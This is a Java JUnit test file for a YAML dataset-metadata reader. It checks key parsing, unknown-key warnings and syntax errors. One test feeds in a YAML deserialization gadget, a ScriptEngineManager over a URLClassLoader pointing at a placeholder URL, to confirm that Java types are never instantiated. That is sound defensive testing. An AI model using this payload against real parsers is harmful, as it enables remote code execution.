package dev.eventail.cli.internal.convert;

import static org.assertj.core.api.Assertions.assertThat;

import dev.eventail.export.DatasetMetadata;
import dev.eventail.model.Severity;
import org.junit.jupiter.api.Test;

class DatasetFileTest {

    @Test
    void readsEveryKeyAndWarnsAboutUnknownOnes() {
        DatasetFile.Result r =
                DatasetFile.read(
                        """
                        title: Agenda
                        description: Les événements.
                        publisher: DINUM
                        license: https://example.org/licence
                        keywords: [agenda, numérique]
                        base-uri: https://data.example.org/e/
                        colour: blue
                        """,
                        DatasetMetadata.defaults());

        assertThat(r.dataset())
                .isEqualTo(
                        new DatasetMetadata(
                                "Agenda",
                                "Les événements.",
                                "DINUM",
                                "https://example.org/licence",
                                java.util.List.of("agenda", "numérique")));
        assertThat(r.baseUri()).isEqualTo("https://data.example.org/e/");
        assertThat(r.diagnostics())
                .singleElement()
                .satisfies(d -> assertThat(d.message()).contains("unknown key \"colour\""));
    }

    @Test
    void badYamlIsAnErrorWithItsLineAndTheDefaultsStay() {
        DatasetFile.Result r =
                DatasetFile.read("title: A\nkeywords: [a\n", DatasetMetadata.defaults());

        assertThat(r.dataset()).isEqualTo(DatasetMetadata.defaults());
        assertThat(r.diagnostics())
                .singleElement()
                .satisfies(
                        d -> {
                            assertThat(d.severity()).isEqualTo(Severity.ERROR);
                            assertThat(d.code()).isEqualTo("yaml.syntax");
                            assertThat(d.source().line()).isGreaterThan(0);
                        });
    }

    @Test
    void javaTypesAreNeverInstantiated() {
        DatasetFile.Result r =
                DatasetFile.read(
                        "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
                        DatasetMetadata.defaults());

        assertThat(r.dataset().title()).isNull();
        assertThat(r.diagnostics()).extracting(d -> d.code()).containsExactly("yaml.syntax");
    }
}
